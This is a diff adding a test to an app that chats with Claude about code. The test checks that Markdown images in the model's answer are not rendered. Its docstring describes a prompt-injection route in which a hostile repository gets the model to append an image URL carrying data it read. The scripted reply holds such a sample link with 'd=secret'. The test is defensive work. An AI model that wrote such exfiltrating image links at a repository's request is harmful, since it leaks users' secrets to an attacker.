@@ -83,6 +83,23 @@ def test_chat_with_claude_shows_its_work_verified_citations_and_cost(home: Path,
     assert fake_anthropic.state.usages[2]["cache_read_input_tokens"] > 0  # the follow-up reads the cache
 
 
+def test_claude_text_in_the_chat_loads_no_image(home: Path, fake_anthropic, monkeypatch: pytest.MonkeyPatch) -> None:
+    """An answer that ends in a Markdown image (what a hostile repository would ask Claude to write, with what it
+    read in the address) rendered as an image: the browser fetched it with no click, in the answer and on reload."""
+    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-test")
+    monkeypatch.setenv("ANTHROPIC_BASE_URL", fake_anthropic.url)
+    fake_anthropic.state.script = [Scripted(
+        "The walker is `onboard/scan/walker.py:1-12`. ![logo](http://127.0.0.1:9/p.png?d=secret) ![ref][t]\n\n"
+        "[t]: http://127.0.0.1:9/t.png\n\n```rust\nlet first = vec![1, 2][0];\n```")]
+    at = app()
+    at.chat_input[0].set_value("How does the walker work?").run()
+    assert not at.exception
+    for shown in (markdown(at), markdown(app())):  # as answered, and as the saved chat shows it again
+        assert "[logo](http://127.0.0.1:9/p.png?d=secret)" in shown and "[ref][t]" in shown
+        assert "![" not in shown.replace("vec![1, 2][0]", "")
+        assert "let first = vec![1, 2][0];" in shown  # code stays as written
+
+
 def test_source_viewer_highlights_cited_lines(home: Path) -> None:
     at = app("source", index="onboard", path="onboard/scan/secrets.py", start="20", end="24")
     assert not at.exception and not at.error
